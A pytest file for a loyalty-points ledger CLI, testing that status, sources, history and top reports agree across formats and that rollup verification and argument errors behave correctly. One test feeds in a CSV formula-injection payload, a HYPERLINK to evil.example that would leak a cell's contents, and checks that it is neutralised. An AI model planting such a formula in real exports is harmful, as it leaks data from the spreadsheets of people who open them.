"""`loyalty report ...` over the story ledger: tables, JSON and CSV carry the same numbers, and
`loyalty verify` checks the rollups."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import Engine, update

from ledger.entries import remember_categories
from ledger.models import PointRollup, ProductSpan
from ledger.product_spans import leaf
from ledger.session import session_scope
from loyalty.cli import main
from tests.cli.test_cli import ledger_config
from tests.reports.ledger_story import build


@pytest.fixture
def config(engine: Engine, db_url: str, tmp_path: Path) -> str:
    with session_scope(engine) as session:
        build(session)
    return ledger_config(tmp_path, db_url)


def run(config: str, capsys: pytest.CaptureFixture[str], *args: str) -> str:
    code = main(["--config", config, "report", *args])
    captured = capsys.readouterr()
    assert code == 0, captured.err
    return captured.out


RANGE = ("--from", "2024-02-01", "--to", "2024-03-15")


def test_status_table_json_and_csv_agree_and_show_the_equation(
    config: str, capsys: pytest.CaptureFixture[str]
) -> None:
    table = run(config, capsys, "status", *RANGE)
    document = json.loads(run(config, capsys, "status", *RANGE, "--json"))
    rows = list(csv.DictReader(io.StringIO(run(config, capsys, "status", *RANGE, "--csv"))))

    assert "150 + 55 - 30 - 60 - 5 - 20 + 0 + 0 + 0 = 90  balanced" in table
    assert "outstanding 90 points × 0.01 = 0.90 liability; 25 points pending" in table
    header, feb, march, total = table.splitlines()[:4]
    assert header.split() == ["period", "opening", "earned", "revoked", "redeemed", "expired",
                              "adjusted", "transferred", "debt", "written_off", "pending", "closing",
                              "liability"]  # fmt: skip
    assert total.split() == ["total", "150", "55", "30", "60", "5", "-20", "0", "0", "0", "25", "90",
                             "0.90"]  # fmt: skip
    assert len(header) == len(feb) == len(march) == len(total)  # aligned
    assert (feb.split()[0], march.split()[-2]) == ("2024-02-01", "90")
    assert {k: document[k] for k in ("opening", "earned", "revoked", "redeemed", "expired",
                                     "adjusted", "transferred", "pending", "closing")} == {
        "opening": 150, "earned": 55, "revoked": 30, "redeemed": 60, "expired": 5,
        "adjusted": -20, "transferred": 0, "pending": 25, "closing": 90,
    }  # fmt: skip
    assert (document["balanced"], document["liability"], document["point_value"]) == (
        True,
        "0.90",
        "0.01",
    )
    assert [p["closing"] for p in document["periods"]] == [175, 90]
    assert rows[-1] == {"period": "total", "opening": "150", "earned": "55", "revoked": "30",
                        "redeemed": "60", "expired": "5", "adjusted": "-20", "transferred": "0",
                        "debt": "0", "written_off": "0", "pending": "25", "closing": "90",
                        "liability": "0.90"}  # fmt: skip
    assert [r["closing"] for r in rows[:-1]] == ["175", "90"]


def test_sources_top_history_and_products_in_each_format(
    config: str, capsys: pytest.CaptureFixture[str]
) -> None:
    sources = json.loads(run(config, capsys, "sources", *RANGE, "--json"))
    assert sources["total_earned"] == 95
    assert sources["sources"][0] == {
        "source": "purchase", "earned": 40, "revoked": 30, "points": 10, "share": "0.4211"
    }  # fmt: skip
    sources_csv = run(config, capsys, "sources", *RANGE, "--csv").splitlines()
    assert "source,purchase,,40,30,10,0.4211" in sources_csv
    assert "product,20,Shampoo,,,40," in sources_csv

    top = run(config, capsys, "top", "--limit", "1")
    assert top.splitlines() == [
        "rank  customer_id  email            earned  earning_orders  balance  lifetime",
        "   1            8  bob@example.com      95               2       45        95",
    ]

    page = json.loads(run(config, capsys, "history", "--customer", "7", "--limit", "2", "--json"))
    assert [(e["points"], e["balance"]) for e in page["entries"]] == [(-5, 55), (-20, 60)]
    following = run(
        config, capsys, "history", "--customer", "7", "--limit", "2", "--cursor",
        page["next_cursor"], "--csv",
    )  # fmt: skip
    second = list(csv.DictReader(io.StringIO(following)))
    # alice's move down sits right after the refund that caused it: no points, balance unchanged
    assert [(r["type"], r["points"], r["balance"], r["note"]) for r in second] == [
        ("entry", "10", "80", "review +10"),
        ("tier_move", "0", "70", "tier silver → (no tier)"),
    ]
    after_move = json.loads(
        run(config, capsys, "history", "--customer", "7", "--limit", "4", "--json")
    )
    move = after_move["entries"][3]
    assert move == {
        "type": "tier_move", "entry_id": None, "event_id": move["event_id"],
        "date": "2024-02-03T10:00:00+00:00", "customer_id": 7, "email": "alice@example.com",
        "source": "tier", "kind": "tier_move", "reference": f"tier_event:{move['event_id']}",
        "points": 0, "balance": 70, "note": "tier silver → (no tier)", "tier_from": "silver",
        "tier_to": None,
    }  # fmt: skip
    last = json.loads(
        run(config, capsys, "history", "--customer", "7", "--json", "--cursor",
            after_move["next_cursor"])
    )  # fmt: skip
    assert [(e["type"], e["points"], e["balance"]) for e in last["entries"]] == [
        ("entry", -30, 70), ("tier_move", 0, 100), ("entry", 100, 100),
    ]  # fmt: skip
    table = run(config, capsys, "history", "--customer", "alice@example.com", "--limit", "2")
    assert f"next page: --cursor {page['next_cursor']}" in table

    products = json.loads(run(config, capsys, "products", "--product", "20", "--json"))
    assert [(r["email"], r["points"]) for r in products["rows"]] == [
        ("alice@example.com", 40),
        ("guest@example.com", 40),
    ]


def test_sources_name_the_categories_the_sync_has_read_and_number_the_others(
    config: str, engine: Engine, capsys: pytest.CaptureFixture[str]
) -> None:
    with session_scope(engine) as session:
        remember_categories(session, 1, {3: "Hair care"})

    document = json.loads(run(config, capsys, "sources", "--json"))
    table = run(config, capsys, "sources", "--csv").splitlines()

    assert [(c["category_id"], c["name"]) for c in document["categories"]] == [
        (0, None),
        (3, "Hair care"),
    ]
    assert "category,3,Hair care,,,80,0.5000" in table
    assert "category,0,(not known),,,80,0.5000" in table


def test_bad_report_arguments_are_one_clear_line(
    config: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["--config", config, "report", "history", "--customer", "999"]) == 2
    assert capsys.readouterr().err.strip() == (
        "loyalty: error: no customer '999' in the ledger of this store"
    )
    assert main(["--config", config, "report", "status", "--from", "2024-02-01", "--to",
                 "2024-01-01"]) == 2  # fmt: skip
    assert "starts (2024-02-01) after it ends (2024-01-01)" in capsys.readouterr().err
    assert main(["--config", config, "report", "top", "--limit", "0"]) == 2
    assert "expected a number from 1 to" in capsys.readouterr().err


def test_verify_finds_a_rollup_that_differs_from_the_entries(
    config: str, engine: Engine, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["--config", config, "verify"]) == 0
    capsys.readouterr()
    with session_scope(engine) as session:
        session.execute(update(PointRollup).where(PointRollup.kind == "review").values(credit=11))

    assert main(["--config", config, "verify"]) == 1
    out, err = capsys.readouterr()
    assert "point_rollups of store 1 (2024-02-11, review, review): stored (11, 0, 1)," in out
    assert "entries give (10, 0, 1)" in out
    assert "1 report rollup row(s) differ from the entries they sum" in err


def test_verify_names_the_days_of_a_product_span_that_differs_from_the_lines(
    config: str, engine: Engine, capsys: pytest.CaptureFixture[str]
) -> None:
    with session_scope(engine) as session:
        session.execute(
            update(ProductSpan)
            .where(ProductSpan.span == leaf(date(2024, 1, 5)), ProductSpan.product_id == 10)
            .values(points=59)
        )

    assert main(["--config", config, "verify"]) == 1
    out, err = capsys.readouterr()
    assert sorted(out.splitlines()) == [  # the day against its lines, its pair against the day
        "product_spans of store 1 (2024-01-05, 10, 3): stored (59,), entries give (60,)",
        "product_spans of store 1 (2024-01-05..2024-01-06, 10, 3): stored (60,),"
        " entries give (59,)",
    ]
    assert "2 report rollup row(s) differ from the entries they sum" in err


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted_and_numbers_are_not(
    config: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """An email or a note from the store or an admin went out as `=...`, a formula to a
    spreadsheet (found by a review, 3 Dec)."""
    reason = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    adjusted = main(["--config", config, "adjust", "--customer", "7", "--points", "-3",
                     "--reason", reason])  # fmt: skip
    assert adjusted == 0
    capsys.readouterr()

    rows = list(csv.reader(io.StringIO(run(config, capsys, "history", "--customer", "7", "--csv"))))

    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
    assert "-3" in cells  # a negative number stays a number


HUGE = "99999999999999999999"  # beyond what a BIGINT holds
CURSOR = "ZW50cnk6OTk5OTk5OTk5OTk5OTk5OTk5OTk5OTk"  # entry:HUGE


@pytest.mark.parametrize(
    ("args", "said"),
    [
        (["status", "--to", "9999-12-31"], "9999-12-31 is not a day a report covers"),
        (["history", "--from", "0001-01-01"], "0001-01-01 is not a day a report covers"),
        (["top", "--limit", HUGE], f"expected a number from 1 to {2**63 - 1}, got {HUGE}"),
        (["history", "--customer", HUGE], f"no customer '{HUGE}' in the ledger of this store"),
        (["history", "--customer", "²"], "no customer '²' in the ledger of this store"),
        (["history", "--cursor", "garbage"], "not a history cursor: 'garbage'"),
        (["history", "--cursor", CURSOR], f"not a history cursor: {CURSOR!r}"),
    ],
)
def test_days_and_numbers_beyond_what_a_report_takes_are_usage_errors(
    config: str, capsys: pytest.CaptureFixture[str], args: list[str], said: str
) -> None:
    """Each was an internal error (OverflowError, or the database refusing the number), or lost
    its closing quote (found by a review, 3 Dec)."""
    assert main(["--config", config, "report", *args]) == 2
    last = capsys.readouterr().err.splitlines()[-1]  # argparse's usage lines come first
    assert last.startswith("loyalty")
    assert last.endswith(said) or f"{said} (" in last


@pytest.mark.parametrize(
    ("args", "said"),
    [
        (["status", "--customer", "7"], "--customer does not apply to the status report (it applies to"),
        (["status", "--limit", "3"], "--limit does not apply to the status report"),
        (["top", "--by", "day"], "--by does not apply to the top report (it applies to status)"),
        (["history", "--out", "x.html"], "--out does not apply to the history report"),
        (["top", "--lang", "fr"], "--lang does not apply to the top report"),
        (["history", "--customer", " "], "expected a WooCommerce customer id or an email, got ''"),
    ],
)  # fmt: skip
def test_an_option_a_report_does_not_take_is_refused_not_ignored(
    config: str, capsys: pytest.CaptureFixture[str], args: list[str], said: str
) -> None:
    """`report status --customer 35` printed the store's figures as if filtered (found by a review,
    3 Dec)."""
    assert main(["--config", config, "report", *args]) == 2
    assert said in capsys.readouterr().err.splitlines()[-1]
